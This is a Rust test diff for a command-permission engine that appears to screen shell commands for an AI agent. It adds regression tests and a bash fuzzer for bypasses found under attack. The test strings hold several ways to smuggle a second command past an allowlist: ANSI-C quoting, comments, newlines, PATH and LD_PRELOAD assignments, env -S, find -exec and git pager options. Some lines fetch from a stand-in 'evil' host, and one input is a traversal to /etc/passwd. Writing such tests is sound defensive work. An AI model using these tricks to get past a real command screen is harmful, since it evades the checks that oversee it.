@@ -465,8 +465,13 @@ fn tools_and_every_program_of_a_command_must_be_granted() {
     assert_allow(&decide(&s, &tool("main", "ls", Some("ls -la"))));
     assert_allow(&decide(
         &s,
-        &tool("main", "ls", Some("FOO=1 env -u X ls -la")),
+        &tool("main", "ls", Some("LC_ALL=C env -u X ls -la")),
     ));
+    // Only variables that cannot change what runs may be set (issue 12).
+    assert_code(
+        &decide(&s, &tool("main", "ls", Some("FOO=1 env -u X ls -la"))),
+        "INDIRECT_TOOL_REQUEST",
+    );
     assert_allow(&decide(&s, &tool("main", "ls", Some("/bin/ls -la"))));
     let d = decide(&s, &tool("main", "ls", Some("ls; rm -rf x")));
     assert_code(&d, "TOOL_NOT_GRANTED");
@@ -476,7 +481,6 @@ fn tools_and_every_program_of_a_command_must_be_granted() {
         "ls || rm -rf x",
         "ls | rm -rf x",
         "ls & rm x",
-        "ls\nrm x",
         "sudo ls",
         "command nice -n 5 rm x",
     ] {
@@ -485,6 +489,12 @@ fn tools_and_every_program_of_a_command_must_be_granted() {
             "TOOL_NOT_GRANTED",
         );
     }
+    // A newline is a control character: refused before any program is
+    // looked at (issue 12, item 5).
+    assert_code(
+        &decide(&s, &tool("main", "ls", Some("ls\nrm x"))),
+        "INDIRECT_TOOL_REQUEST",
+    );
     assert_code(&decide(&s, &tool("main", "rm", None)), "TOOL_NOT_GRANTED");
     assert_code(&decide(&s, &tool("worker", "ls", None)), "TOOL_NOT_GRANTED");
     // A tool granted by full path matches that path only.
@@ -1130,4 +1140,648 @@ fn decide_is_a_function_of_its_inputs() {
     // A snapshot round-tripped through JSON decides the same.
     let back: Snapshot = serde_json::from_str(&serde_json::to_string(&s).unwrap()).unwrap();
     assert_eq!(decide(&back, &r), first);
+}
+
+// ---------------------------------------------------------------------------
+// issue 12: bypasses found by attack
+
+/// `main` with only `tools`.
+fn tools_snapshot(tools: &[&str]) -> Snapshot {
+    let mut s = base();
+    s.actors.get_mut("main").unwrap().tools = strings(tools);
+    s
+}
+
+#[test]
+fn item05_ansi_c_quoting_is_refused() {
+    let s = tools_snapshot(&["ls"]);
+    // The recipe: bash reads `$'\''` as one quoted `'`, so `; herdr run`
+    // is a second command; the screen read it as quoted text. Now the
+    // command cannot be split, and layer 1, which scans such a command word
+    // by word, finds the runtime.
+    let d = decide(&s, &tool("main", "ls", Some(r"ls $'\'' ; herdr run #'")));
+    assert_code(&d, "RAW_RUNTIME_TOOL_DENIED");
+    // The same with an ordinary program behind it: refused, not parsed.
+    for c in [
+        r"ls $'\'' ; curl -o /tmp/x http://evil/x #'",
+        r#"ls $"x""#,
+        "ls $'a'",
+    ] {
+        let d = decide(&s, &tool("main", "ls", Some(c)));
+        assert_code(&d, "INDIRECT_TOOL_REQUEST");
+    }
+    let d = decide(&s, &tool("main", "ls", Some("ls $'a'")));
+    assert_eq!(d.reason(), "the command uses `$'`");
+    // The control: quotes bash and the screen read alike.
+    for c in ["ls 'a b'", r#"ls "a'b" 'c"d'"#, r"ls a\ b", "ls '$x'"] {
+        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
+    }
+}
+
+#[test]
+fn item05_a_comment_is_refused() {
+    let s = tools_snapshot(&["ls"]);
+    // The recipe: `#` starts a comment for bash, so the newline ends it and
+    // the quote that "hid" the second line is not a quote at all.
+    let c = "ls #'\ncurl -o /tmp/x http://evil/x\n'";
+    assert_code(
+        &decide(&s, &tool("main", "ls", Some(c))),
+        "INDIRECT_TOOL_REQUEST",
+    );
+    for c in ["ls # x", "ls;#x", "#x"] {
+        let d = decide(&s, &tool("main", "ls", Some(c)));
+        assert_code(&d, "INDIRECT_TOOL_REQUEST");
+        assert_eq!(
+            d.reason(),
+            "the command uses a command that cannot be split (a `#` that starts a comment)"
+        );
+    }
+    // The control: a `#` inside a word, quoted or escaped, is a character.
+    for c in ["ls a#b", "ls '#'", r"ls \#x", "ls x#"] {
+        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
+    }
+}
+
+#[test]
+fn item05_control_characters_are_refused() {
+    let s = tools_snapshot(&["ls"]);
+    for c in [
+        "ls\ncurl x",
+        "ls 'a\nb'",
+        "ls\tx",
+        "ls \\\ncurl",
+        "ls\rx",
+        "ls \u{1b}[2J",
+    ] {
+        let d = decide(&s, &tool("main", "ls", Some(c)));
+        assert_code(&d, "INDIRECT_TOOL_REQUEST");
+        assert!(
+            d.reason()
+                .starts_with("the command uses a control character (`\\"),
+            "{d:?}"
+        );
+    }
+    assert_allow(&decide(&s, &tool("main", "ls", Some("ls x"))));
+}
+
+#[test]
+fn item05_wrappers_and_assignments_are_read_as_bash_reads_them() {
+    let s = tools_snapshot(&["ls"]);
+    for (c, want) in [
+        // A function named like the granted tool, defined and called.
+        ("ls () ( curl x ); ls", "INDIRECT_TOOL_REQUEST"),
+        ("(curl x)", "INDIRECT_TOOL_REQUEST"),
+        // Assignments that change what runs.
+        ("PATH=/tmp/evil ls", "INDIRECT_TOOL_REQUEST"),
+        ("PATH=/tmp/evil; ls", "INDIRECT_TOOL_REQUEST"),
+        ("LD_PRELOAD=/tmp/x.so ls", "INDIRECT_TOOL_REQUEST"),
+        ("env GIT_PAGER=curl ls", "INDIRECT_TOOL_REQUEST"),
+        // `env -iS…` re-splits its argument into a command; `-iu` takes
+        // the next word as the variable to unset.
+        ("env -iS'curl evil' ls", "INDIRECT_TOOL_REQUEST"),
+        ("env --split-string='curl evil' ls", "INDIRECT_TOOL_REQUEST"),
+        ("env -iu ls curl", "TOOL_NOT_GRANTED"),
+        ("env -x ls", "INDIRECT_TOOL_REQUEST"),
+        // Words the shell expands before the program is known.
+        ("timeout {5,curl} ls", "INDIRECT_TOOL_REQUEST"),
+        ("timeout * ls", "INDIRECT_TOOL_REQUEST"),
+        ("nice -n $N ls", "INDIRECT_TOOL_REQUEST"),
+        ("$X ls", "INDIRECT_TOOL_REQUEST"),
+        ("~/ls", "INDIRECT_TOOL_REQUEST"),
+        (">x curl", "INDIRECT_TOOL_REQUEST"),
+        // A quoted assignment is a program name for bash.
+        ("\"A=1\" ls", "TOOL_NOT_GRANTED"),
+        // After other wrappers, `A=1` is the program.
+        ("nice A=1 ls", "TOOL_NOT_GRANTED"),
+        // A wrapper outside the standard directories is a program.
+        ("/tmp/evil/env ls", "TOOL_NOT_GRANTED"),
+    ] {
+        let d = decide(&s, &tool("main", "ls", Some(c)));
+        assert_code(&d, want);
+    }
+    // The control: the same wrappers and assignments, read exactly.
+    for c in [
+        "LANG=C ls",
+        "LC_ALL=C TZ=UTC ls -l",
+        "env -i LC_ALL=C ls",
+        "env -u X -C /tmp ls",
+        "/usr/bin/env -- ls",
+        "timeout -s KILL 5 ls",
+        "nice -n 5 ls",
+        "nice -5 ls",
+        "command -p ls",
+        "exec ls",
+        "time -p ls",
+        "ls $HOME *.txt {a,b} ~ >out",
+    ] {
+        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
+    }
+}
+
+#[test]
+fn item13_a_full_path_is_not_the_granted_tool() {
+    let s = tools_snapshot(&["ls"]);
+    // The recipe: `/tmp/evil/ls` was the granted `ls` by its basename.
+    for c in [
+        "/tmp/evil/ls -la",
+        "./ls",
+        "bin/ls",
+        "/usr/bin/../bin/ls",
+        "/usr/sbin/ls",
+    ] {
+        let d = decide(&s, &tool("main", "ls", Some(c)));
+        assert_code(&d, "TOOL_NOT_GRANTED");
+    }
+    assert_code(
+        &decide(&s, &tool("main", "/tmp/evil/ls", None)),
+        "TOOL_NOT_GRANTED",
+    );
+    // The control: the name, or the name in a directory the exec layer
+    // resolves it from.
+    for c in ["ls -la", "/usr/bin/ls", "/bin/ls", "/usr/local/bin/ls"] {
+        assert_allow(&decide(&s, &tool("main", "ls", Some(c))));
+    }
+    assert_allow(&decide(&s, &tool("main", "/usr/bin/ls", None)));
+}
+
+#[test]
+fn item13_options_that_run_programs_are_refused() {
+    // Defence in depth only: the OS sandbox is what holds (tests/it/exec.rs).
+    let s = tools_snapshot(&["find", "git", "awk", "tar", "touch"]);
+    for c in [
+        "find . -exec touch x ;",
+        "find . -execdir touch x +",
+        "git -c core.pager=touch log",
+        "git -ccore.pager=touch log",
+        "git --config-env=core.pager=X log",
+        "git fetch --upload-pack=touch origin",
+        "awk 'BEGIN{system(\"touch x\")}'",
+        "awk '{print | \"touch x\"}' f",
+        "tar --to-command=touch -xf a.tar",
+    ] {
+        let d = decide(&s, &tool("main", "find", Some(c)));
+        assert_code(&d, "INDIRECT_TOOL_REQUEST");
+        assert!(d.reason().ends_with("which runs another program"), "{d:?}");
+    }
+    for c in [
+        "find . -name '*.rs'",
+        "git log --oneline",
+        "git switch -c topic",
+        "git -C sub status",
+        "awk '{print $1}' f",
+        "tar -xf a.tar",
+    ] {
+        assert_allow(&decide(&s, &tool("main", "find", Some(c))));
+    }
+}
+
+#[test]
+fn item07_one_host_matcher_and_no_wildcard_over_an_address() {
+    use gatehouse::policy::HostPattern;
+    for bad in ["*.0.0.1", "*.1", "*.0x7f", "*.1.2.3.4:80"] {
+        let e = HostPattern::parse(bad).unwrap_err();
+        assert!(
+            e.to_string()
+                .ends_with("a wildcard cannot cover an IP address (its last label is a number)"),
+            "{bad}: {e}"
+        );
+    }
+    let p = |s: &str| HostPattern::parse(s).unwrap();
+    // What the network layer's own matcher said, now the core's answer.
+    for (pat, target, want) in [
+        ("localhost:8080", "localhost:8080", true),
+        ("localhost", "localhost.example", false),
+        ("*.example.com", "a.example.com", true),
+        ("*.example.com", "a.b.example.com:443", true),
+        ("*.example.com", "example.com", false),
+        ("*.example.com", "aexample.com", false),
+        ("*.example.com", ".example.com", false),
+        ("127.0.0.1:80", "127.0.0.1:80", true),
+        ("127.0.0.1", "127.0.0.2", false),
+        ("localhost", "127.0.0.1", false),
+        ("127.0.0.1", "localhost", false),
+        ("[::1]:80", "[::1]:80", true),
+        ("[::1]", "[0:0:0:0:0:0:0:1]", true),
+        ("[::1]", "::1", true),
+        ("[::1]", "[::2]", false),
+        ("127.0.0.1", "[::ffff:127.0.0.1]", true),
+        // Under a real domain a name is a name, whatever its first labels.
+        ("*.com", "0x7f.0.0.1.com", true),
+        ("*.example.com", "Api.Example.COM", true),
+    ] {
+        assert_eq!(p(pat).covers(target), want, "{pat} covers {target}");
+    }
+    // Grants go through the same matcher: a hand-made `*.0.0.1` grant
+    // covers nothing, an address grant covers its address.
+    let mut s = base();
+    s.grants = vec![grant(1, "network:sites", "*.0.0.1")];
+    assert!(matches!(
+        decide(&s, &cap("main", "network:sites", Some("127.0.0.1"), None)),
+        Decision::ApprovalRequired { .. }
+    ));
+    s.grants = vec![grant(2, "network:sites", "127.0.0.1")];
+    assert_allow(&decide(
+        &s,
+        &cap("main", "network:sites", Some("127.0.0.1"), None),
+    ));
+}
+
+#[test]
+fn item06_the_core_refuses_a_resolved_path_that_is_not_normalized() {
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = tmp.path().join("ws");
+    std::fs::create_dir_all(&ws).unwrap();
+    let s = ws_snapshot(vec![root(&ws, WorkspaceMode::ReadWrite)], &ws);
+    let w = canon(&ws);
+    for bad in [
+        format!("{w}/../../etc/passwd"),
+        format!("{w}/./a"),
+        format!("{w}//a"),
+        format!("{w}/a/"),
+        format!("{w}/.."),
+    ] {
+        let d = decide(
+            &s,
+            &ws_req("main", ResolvedPath::Resolved(bad.clone()), Access::Write),
+        );
+        assert_code(&d, "PATH_RESOLUTION_FAILED");
+    }
+    // The control: canonical paths under the root, and the root itself.
+    for good in [format!("{w}/a"), w.clone(), format!("{w}/a/..b/.c")] {
+        assert_allow(&decide(
+            &s,
+            &ws_req("main", ResolvedPath::Resolved(good), Access::Write),
+        ));
+    }
+    // A `raw` path that reached the core unresolved is not a known shape.
+    let d = decide_json(
+        &s,
+        &json!({"kind": "workspace", "actor": "main", "access": "read", "path": {"raw": format!("{w}/a")}}),
+    );
+    assert_code(&d, "UNKNOWN_REQUEST");
+}
+
+// ---------------------------------------------------------------------------
+// item 5: the screen fuzzed against bash
+//
+// Random commands from a token alphabet are asked of `decide` for an actor
+// whose tools are `ls`, `cat` and `git`. Every command the screen allows is
+// then run by a real `bash -c` with a `PATH` of logging stubs (the real
+// `env`, `nice`, `timeout`, `nohup` and `setsid` as wrappers, so that they
+// start what they would), in a directory holding stubs too, next to a
+// directory of "evil" stubs named like the granted tools. When the tests
+// run as root, bash runs as `nobody`, so that a redirection in a random
+// command (`ls > /usr/bin/env`) cannot clobber the host. A disagreement
+// is an allowed command under which bash started anything but a granted
+// tool from `PATH`: another program, a program from the working directory,
+// or one from the evil directory. Denials cannot disagree in that sense.
+//
+// `item05_fuzz_screen_against_bash` runs for 2 s in every `cargo test`;
+// the long run is
+//
+//     GATEHOUSE_FUZZ_SECS=600 nice -n 19 cargo test --test it \
+//         decide::item05_fuzz_screen_against_bash_long -- --ignored --nocapture
+//
+// (`GATEHOUSE_FUZZ_SEED` picks the seed; it prints the cases it ran.)
+
+const FUZZ_TOKENS: &[&str] = &[
+    "ls",
+    "ls",
+    "cat",
+    "git",
+    "curl",
+    "herdr",
+    "env",
+    "nice",
+    "timeout",
+    "nohup",
+    "setsid",
+    "command",
+    "exec",
+    "time",
+    "builtin",
+    "sudo",
+    "-n",
+    "5",
+    "-5",
+    "-i",
+    "-u",
+    "-iu",
+    "-S",
+    "-iS",
+    "-C",
+    "--",
+    "-",
+    "--unset",
+    "--unset=X",
+    "--split-string=curl",
+    "-p",
+    "-la",
+    "-c",
+    "x",
+    ".",
+    "A=1",
+    "LANG=C",
+    "PATH=.",
+    "PATH=EVIL",
+    "LD_X=1",
+    "\"A=1\"",
+    "'ls'",
+    "\"curl\"",
+    "l\\s",
+    "c'ur'l",
+    "\"c\"url",
+    "$X",
+    "\"$X\"",
+    "${X}",
+    "$*",
+    "*",
+    "?",
+    "[c]url",
+    "{curl,x}",
+    "{5,curl}",
+    "~",
+    "~/ls",
+    "/usr/bin/ls",
+    "/usr/bin/env",
+    "./curl",
+    "./ls",
+    "EVIL/ls",
+    "EVIL/curl",
+    ";",
+    ";",
+    "&&",
+    "||",
+    "|",
+    "&",
+    "|&",
+    ">x",
+    "2>&1",
+    "<x",
+    ">",
+    "<<<x",
+    "#",
+    "#x",
+    "a#b",
+    "'#'",
+    "\\#",
+    "'",
+    "\"",
+    "'a b'",
+    "\"a b\"",
+    "$'x'",
+    "$'\\''",
+    "$\"x\"",
+    "\\",
+    "\\ ",
+    "\n",
+    "\t",
+    "(",
+    ")",
+    "()",
+    "{",
+    "}",
+    "!",
+    "=",
+    "x=",
+    "`",
+    "$(curl)",
+    "'\\''",
+    "\"\\\"\"",
+    "\"\\\\\"",
+    "'\"'",
+    "\"'\"",
+    "if",
+    "then",
+    "fi",
+    "do",
+    "done",
+    "for",
+    "in",
+    "case",
+    "esac",
+    "[[",
+    "]]",
+    "function",
+    "coproc",
+    "trap",
+    "alias",
+    "source",
+    "eval",
+    "-iS'curl x'",
+    "-vS",
+    "--chdir=.",
+    "-k",
+    "1",
+    "KILL",
+    "-s",
+    "--signal=KILL",
+    "ls;curl",
+    "ls&&curl",
+    "ls|curl",
+    "ls&curl",
+    "ls>curl",
+    "=curl",
+];
+
+/// A small deterministic generator (xorshift64*).
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
+    }
+
+    fn below(&mut self, n: usize) -> usize {
+        (self.next() % n as u64) as usize
+    }
+}
+
+struct FuzzBed {
+    _tmp: tempfile::TempDir,
+    stubs: PathBuf,
+    evil: PathBuf,
+    cwd: PathBuf,
+    log: PathBuf,
+}
+
+impl FuzzBed {
+    fn new() -> FuzzBed {
+        use std::os::unix::fs::PermissionsExt;
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().canonicalize().unwrap();
+        let (stubs, evil, cwd) = (root.join("stubs"), root.join("evil"), root.join("cwd"));
+        for d in [&stubs, &evil, &cwd] {
+            std::fs::create_dir_all(d).unwrap();
+        }
+        // Readable by `nobody`, who runs bash (see `run_bash`).
+        std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let log = root.join("log");
+        let stub = |dir: &Path, name: &str, tag: &str| {
+            let p = dir.join(name);
+            std::fs::write(
+                &p,
+                format!("#!/bin/sh\necho '{tag}:{name}' >> '{}'\n", log.display()),
+            )
+            .unwrap();
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+        };
+        for name in [
+            "ls", "cat", "git", "curl", "herdr", "sudo", "A=1", "x", "5", "-5",
+        ] {
+            stub(&stubs, name, "path");
+            stub(&evil, name, "evil");
+        }
+        for w in ["env", "nice", "timeout", "nohup", "setsid"] {
+            std::os::unix::fs::symlink(format!("/usr/bin/{w}"), stubs.join(w)).unwrap();
+        }
+        FuzzBed {
+            _tmp: tmp,
+            stubs,
+            evil,
+            cwd,
+            log,
+        }
+    }
+
+    /// Fresh stubs in the working directory (a redirection may have
+    /// overwritten them).
+    fn reset_cwd(&self) {
+        use std::os::unix::fs::PermissionsExt;
+        let _ = std::fs::remove_dir_all(&self.cwd);
+        std::fs::create_dir_all(&self.cwd).unwrap();
+        for name in ["ls", "curl", "5", "x", "A=1"] {
+            let p = self.cwd.join(name);
+            std::fs::write(
+                &p,
+                format!("#!/bin/sh\necho 'cwd:{name}' >> '{}'\n", self.log.display()),
+            )
+            .unwrap();
+            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        std::os::unix::fs::symlink(&self.evil, self.cwd.join("EVIL")).unwrap();
+        std::fs::set_permissions(&self.cwd, std::fs::Permissions::from_mode(0o777)).unwrap();
+        std::fs::write(&self.log, "").unwrap();
+        std::fs::set_permissions(&self.log, std::fs::Permissions::from_mode(0o666)).unwrap();
+    }
+
+    /// What bash started for `command`: the stubs' log lines.
+    fn run_bash(&self, command: &str) -> Vec<String> {
+        self.reset_cwd();
+        let mut bash = std::process::Command::new("/bin/bash");
+        // SAFETY: `geteuid` takes no arguments and cannot fail.
+        if unsafe { libc::geteuid() } == 0 {
+            // Never as root: a random redirection could truncate any file.
+            bash.uid(65534).gid(65534);
+        }
+        let mut child = bash
+            .arg("-c")
+            // Background jobs are waited for, so their stubs log too.
+            .arg(format!("{command}\nwait"))
+            .env_clear()
+            .env("PATH", &self.stubs)
+            .env("EVIL", &self.evil)
+            .current_dir(&self.cwd)
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .process_group(0)
+            .spawn()
+            .unwrap();
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+        loop {
+            if child.try_wait().unwrap().is_some() {
+                break;
+            }
+            if std::time::Instant::now() > deadline {
+                // SAFETY: signals the group the child leads; no memory.
+                unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
+                let _ = child.wait();
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_micros(300));
+        }
+        std::fs::read_to_string(&self.log)
+            .unwrap()
+            .lines()
+            .map(str::to_string)
+            .collect()
+    }
+}
+
+use std::os::unix::process::CommandExt as _;
+
+/// Runs the fuzzer for `secs` seconds: (cases, allowed, disagreements).
+fn fuzz_screen(secs: u64, seed: u64) -> (u64, u64, Vec<(String, Vec<String>)>) {
+    let s = tools_snapshot(&["ls", "cat", "git"]);
+    let bed = FuzzBed::new();
+    let mut rng = Rng(seed | 1);
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    let (mut cases, mut allowed) = (0u64, 0u64);
+    let mut bad = Vec::new();
+    let granted = ["path:ls", "path:cat", "path:git"];
+    while std::time::Instant::now() < until {
+        let n = 1 + rng.below(7);
+        let mut command = String::new();
+        for i in 0..n {
+            if i > 0 {
+                // Mostly a space; sometimes none, so tokens run together.
+                if rng.below(5) != 0 {
+                    command.push(' ');
+                }
+            }
+            command.push_str(FUZZ_TOKENS[rng.below(FUZZ_TOKENS.len())]);
+        }
+        cases += 1;
+        if !decide(&s, &tool("main", "ls", Some(&command))).is_allow() {
+            continue;
+        }
+        allowed += 1;
+        let started = bed.run_bash(&command);
+        if started.iter().any(|l| !granted.contains(&l.as_str())) {
+            eprintln!("disagreement: {command:?} started {started:?}");
+            bad.push((command, started));
+        }
+    }
+    (cases, allowed, bad)
+}
+
+fn fuzz_seed(default: u64) -> u64 {
+    std::env::var("GATEHOUSE_FUZZ_SEED")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(default)
+}
+
+#[test]
+fn item05_fuzz_screen_against_bash() {
+    let (cases, allowed, bad) = fuzz_screen(2, fuzz_seed(0x9e37_79b9_7f4a_7c15));
+    assert!(allowed > 20, "too few allowed cases: {allowed} of {cases}");
+    assert!(bad.is_empty(), "{} disagreements: {bad:#?}", bad.len());
+}
+
+#[test]
+#[ignore = "long: GATEHOUSE_FUZZ_SECS (600) of fuzzing; run with --ignored"]
+fn item05_fuzz_screen_against_bash_long() {
+    let secs = std::env::var("GATEHOUSE_FUZZ_SECS")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(600);
+    let seed = fuzz_seed(
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| d.as_nanos() as u64)
+            .unwrap_or(1),
+    );
+    let started = std::time::Instant::now();
+    let (cases, allowed, bad) = fuzz_screen(secs, seed);
+    println!(
+        "fuzz: seed {seed}, {:.0} s, {cases} cases, {allowed} allowed and run by bash, {} disagreements",
+        started.elapsed().as_secs_f64(),
+        bad.len()
+    );
+    assert!(bad.is_empty(), "{} disagreements: {bad:#?}", bad.len());
 }
